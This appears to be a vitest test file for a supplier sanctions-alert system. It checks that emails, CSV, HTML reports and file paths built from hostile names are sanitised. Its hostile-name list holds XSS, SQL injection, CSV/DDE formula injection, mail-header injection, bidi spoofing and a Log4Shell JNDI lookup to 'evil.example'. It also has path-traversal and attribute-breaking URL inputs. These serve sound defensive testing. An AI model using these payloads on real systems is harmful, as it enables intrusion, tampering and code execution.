import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { alertMessage, digestMessage } from '../../shared/alerts/messages/messages.ts'
import { alertOutgoing, sizeOf, snsLimit } from '../../shared/alerts/outgoing.ts'
import { noticeOutgoing } from '../../shared/alerts/report/notice-outgoing.ts'
import { inOrder, reportFiles, reportPrefix } from '../../shared/alerts/report/report-files.ts'
import { reportedAlert } from '../../shared/alerts/report/reported-alert.ts'
import { noticeSchema } from '../../shared/alerts/report/notice-schema.ts'
import { alertOf, customer, notice, party, reportRef } from './messages/support.ts'

/** Names that have broken something somewhere: markup, formulas, direction, breaks, length, encodings. */
const hostileNames = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE suppliers; --",
  '=HYPERLINK("https://evil.example","click")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '＝1+1',
  'Acme\r\nBcc: everybody@example.com',
  'Acme\nSubject: forged',
  '\u202Egnp.exe\u202C Ltd',
  '\u2066hidden\u2069 \u200B\u200Fname',
  `Z${'\u0301'.repeat(300)}algo`,
  'A'.repeat(10_000),
  '😀'.repeat(3_000),
  '\uD800 half a character',
  '\u0000\u0007bell\u001B[31mred',
  '{{constructor.constructor("return 1")()}}',
  '${jndi:ldap://evil.example/a}',
  '</title></style><svg onload=alert(1)>',
  '"quoted", with; separators\tand "more"',
]

const forbidden = /[\p{Cf}\p{Zl}\p{Zp}\p{Cs}]|(?![\n\r\t])\p{Cc}/u

describe('twenty hostile names', () => {
  const alerts = hostileNames.map((name, position) =>
    alertOf({
      kind: 'opened',
      after: party({
        name,
        id: name,
        aliases: [{ name, quality: 'strong', kind: name }],
        citation: { title: name, url: name },
        programs: [name],
      }),
      supplier: { supplierId: `${name}${position}`.slice(-60), name, otherNames: [name], address: name },
      others: [{ designationName: name, designationId: name }],
      anchors: [{ anchor: 'presentation', on: '2026-10-01', reference: name.slice(0, 40) }],
    }),
  )
  const hostileCustomer = { ...customer, name: hostileNames[0] ?? '' }
  const files = new Map(reportFiles(notice(), alerts, hostileCustomer).map((file) => [file.name, file.text]))

  it.each(hostileNames.map((name, position) => [JSON.stringify(name).slice(0, 30), position] as const))(
    'as a mail and for programs: %s',
    (_name, position) => {
      const alert = alerts[position]!
      const message = alertOutgoing(alert, [], alertMessage(alert, hostileCustomer))
      expect(message.subject).toMatch(/^[A-Za-z][^\p{C}]{0,98}$/u)
      expect(message.text).not.toMatch(forbidden)
      expect(message.text).not.toMatch(/[<>]/)
      expect(sizeOf(message)).toBeLessThan(snsLimit)
      expect(JSON.parse(message.json)).toMatchObject({ alertId: alert.alertId })
    },
  )

  it('as a spreadsheet: no cell is a formula, a row is a row', () => {
    const csv = files.get('report.csv') ?? ''
    const rows: string[][] = parse(csv, { bom: true })
    expect(rows).toHaveLength(1 + hostileNames.length)
    expect(new Set(rows.map((row) => row.length)).size).toBe(1)
    for (const cell of rows.flat()) {
      expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
      expect(cell).not.toMatch(forbidden)
      expect(cell).not.toMatch(/[\r\n]/)
    }
    expect(csv.split('\r\n')).toHaveLength(2 + hostileNames.length)
  })

  it('as a page: nothing of it is markup, and nothing is fetched', () => {
    const html = files.get('report.html') ?? ''
    const tags = new Set([...html.matchAll(/<\/?([a-z0-9!]+)/gi)].map(([, tag]) => tag?.toLowerCase()))
    const ours =
      '!doctype html head meta title style body h1 p bdi table thead tbody tr th td br span a'.split(' ')
    expect([...tags].filter((tag) => !ours.includes(tag ?? ''))).toEqual([])
    // Attributes are ours too: a name cannot close one.
    expect(html).not.toMatch(/<[^>]*\son[a-z]+\s*=/i)
    expect(
      [...html.matchAll(/\s(?:href|src)="([^"]*)"/g)]
        .map(([, url]) => url)
        .every((url) => url?.startsWith('https://')),
    ).toBe(true)
    expect(html).not.toMatch(forbidden)
    expect(html).toContain("default-src 'none'")
  })

  it.each(['"', "'"])('as an address that would close its attribute with %s', (quote) => {
    const url = `https://evil.example/${quote}onmouseover=${quote}alert(1)${quote}style=${quote}x`
    const alert = alertOf({ kind: 'opened', after: party({ citation: { title: 'x', url } }) })
    const page = reportFiles(notice(), [alert], customer).find(({ name }) => name === 'report.html')
    expect(page?.text).not.toMatch(/["'](?:onmouseover|style)=/)
  })

  it('as the key of a file: the customer’s own prefix and no other', () => {
    expect(reportPrefix('acme', 'ofac-sdn#000002')).toBe('reports/acme/ofac-sdn-000002/')
    for (const name of hostileNames) {
      expect(reportPrefix('acme', `../${name.slice(0, 50)}/x`)).toMatch(/^reports\/acme\/[A-Za-z0-9._-]+\/$/)
    }
  })
})

describe('what a report keeps of an alert', () => {
  const alerts = [
    alertOf({ kind: 'opened', after: party() }),
    alertOf({ kind: 'resolved', before: party(), paths: [], supplier: { supplierId: 'S-2', name: 'Kumul' } }),
  ]

  it('is all that it says of it, and little', () => {
    const kept = alerts.map(reportedAlert)
    for (const kind of ['report', 'alerts'] as const) {
      const of = notice({ kind })
      expect(reportFiles(of, kept, customer)).toEqual(reportFiles(of, alerts, customer))
      const words = (told: typeof kept) => digestMessage(of, told, customer, reportRef)
      expect(noticeOutgoing(of, kept, reportRef, words(kept))).toEqual(
        noticeOutgoing(of, alerts, reportRef, words(alerts)),
      )
    }
    for (const one of kept) expect(JSON.stringify(one).length).toBeLessThan(1500)
  })
})

describe('a digest of 300 hits', () => {
  const alerts = Array.from({ length: 300 }, (_, i) =>
    alertOf({
      kind: i % 10 === 0 ? 'resolved' : 'opened',
      ...(i % 10 === 0 ? { before: party() } : { after: party() }),
      supplier: {
        supplierId: `S-${String(i).padStart(3, '0')}`,
        name: `Supplier ${i} with a rather long name Co., Ltd.`,
      },
    }),
  ).map((alert, i) => ({ ...alert, alertId: `alert-${i}` }))
  const digest = notice({
    kind: 'alerts',
    cause: 'published',
    source: 'dhs-uflpa',
    noticeId: 'dhs-uflpa#000007',
  })
  const message = noticeOutgoing(
    digest,
    alerts,
    reportRef,
    digestMessage(digest, alerts, customer, reportRef),
  )
  const files = reportFiles(digest, alerts, customer)

  it('is one message that fits, says how many there are, and links to all of them', () => {
    expect(sizeOf(message)).toBeLessThan(snsLimit)
    expect(message.subject).toBe('Digest: 300 matches changed, UFLPA Entity List')
    expect(message.text).toContain('and 180 more matches; the full report has them all.')
    expect(message.text).toContain(reportRef.link)
    const json = JSON.parse(message.json) as {
      total: number
      truncated: boolean
      report: unknown
      alerts: unknown[]
    }
    expect([json.total, json.truncated, json.alerts.length]).toEqual([300, true, 200])
    expect(json.report).toEqual(reportRef)
    expect(message.attributes).toMatchObject({ kind: ['digest', 'notice', 'opened', 'resolved'] })
  })

  it('has a report of all of them in every form', () => {
    const [json, csv, html] = files
    expect((JSON.parse(json?.text ?? '') as { alerts: unknown[] }).alerts).toHaveLength(300)
    expect(parse(csv?.text ?? '', { bom: true })).toHaveLength(301)
    expect(html?.text.match(/<tr>/g)).toHaveLength(301)
  })

  it('is what the published schema says', () => {
    const json: unknown = JSON.parse(message.json)
    expect(noticeSchema.parse(json)).toEqual(json)
  })
})

it('names the gravest first, then supplier by supplier with the likeliest first, the same whatever order they came in', () => {
  const base = reportedAlert(alertOf({ kind: 'opened', after: party() }))
  const one = (
    alertId: string,
    severity: typeof base.severity,
    supplierId: string,
    score: number,
  ): typeof base => ({ ...base, alertId, severity, score, supplier: { ...base.supplier, supplierId } })
  const alerts = [
    one('d', 'low', 'S-1', 1),
    one('c', 'high', 'S-2', 0.9),
    one('b', 'high', 'S-1', 0.8),
    one('a', 'high', 'S-1', 0.9),
    one('e', 'critical', 'S-9', 0.7),
  ]
  for (const order of [alerts, alerts.toReversed()])
    expect(inOrder(order).map(({ alertId }) => alertId)).toEqual(['e', 'a', 'b', 'c', 'd'])
})
